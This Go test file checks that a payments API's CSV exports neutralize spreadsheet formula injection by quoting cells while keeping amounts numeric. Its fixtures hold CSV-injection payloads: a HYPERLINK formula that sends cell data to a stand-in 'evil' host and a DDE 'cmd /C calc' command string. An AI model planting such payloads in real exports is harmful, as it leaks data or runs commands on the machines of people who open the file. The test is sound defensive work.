package main

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestQueryCSVNeutralizesProviderControlledCells: ids and details come from
// providers' payloads, so anyone who can get a payment through a provider
// controls them. In every /v1 CSV a text cell that a spreadsheet would run
// as a formula ('=', '+', '-', '@', tab, CR first) reaches it as text; the
// amount columns stay numbers, negative ones included.
func TestQueryCSVNeutralizesProviderControlledCells(t *testing.T) {
	a := newQAPI(t)
	a.exec(`
		INSERT INTO reconciliation_items (stream_id, kind, item_key, status, provider, payment_id, details, opened_at, resolved_at)
		VALUES ('payment-stripe-x', 'over_refund', '+SUM(A1:A9)', 'open', 'stripe', '=HYPERLINK("http://evil/?"&A1,"pay")',
			E'\tcmd|'' /C calc''!A0', $1, NULL),
			('payment-stripe-y', 'over_refund', '-2+3', 'open', 'stripe', '@SUM(1+1)', E'\rx', $2, NULL)`,
		qT0, qT0.Add(time.Hour))
	header, rows, _ := a.getCSV("/v1/reconciliation")
	require.Equal(t, "payment_id", header[2])
	require.Len(t, rows, 2)
	assert.Equal(t, []string{`'=HYPERLINK("http://evil/?"&A1,"pay")`, "over_refund", "'+SUM(A1:A9)"}, rows[0][2:5])
	assert.Equal(t, "'\tcmd|' /C calc'!A0", rows[0][6])
	assert.Equal(t, []string{"'@SUM(1+1)", "over_refund", "'-2+3"}, rows[1][2:5])
	// (encoding/csv's reader drops the CR itself; the quote is what counts.)
	assert.True(t, strings.HasPrefix(rows[1][6], "'"), "%q", rows[1][6])

	for i, e := range []struct {
		account string
		amount  int64
	}{{"revenue:sales", -1000}, {"=1+1", 1000}} {
		a.exec(`
			INSERT INTO ledger_entries (event_id, posting_index, stream_id, event_type, provider, account,
				currency, amount, occurred_at, recorded_at, position_commit, position_prepare, period)
			VALUES (gen_random_uuid(), 0, 'payment-test-p1', 'payment.captured', 'test', $1, 'USD', $2, $3, $3, 7, $4, '2026-03')`,
			e.account, e.amount, qT0, 9+i) // entries page in feed order: one position each
		a.exec(`INSERT INTO account_balances (account, currency, balance, entry_count, updated_at)
			VALUES ($1, 'USD', $2, 1, now())`, e.account, e.amount)
	}
	header, rows, _ = a.getCSV("/v1/ledger/entries")
	require.Len(t, rows, 2)
	col := map[string]int{}
	for i, h := range header {
		col[h] = i
	}
	assert.Equal(t, "-1000", rows[0][col["amount"]], "an amount stays a number")
	assert.Equal(t, "-10.00", rows[0][col["amount_decimal"]])
	assert.Equal(t, "'=1+1", rows[1][col["account"]])

	_, rows, _ = a.getCSV("/v1/balances?currency=USD")
	require.Len(t, rows, 2)
	assert.Equal(t, []string{"'=1+1", "USD", "1000", "10.00"}, rows[0])
	assert.Equal(t, []string{"revenue:sales", "USD", "-1000", "-10.00"}, rows[1])
}
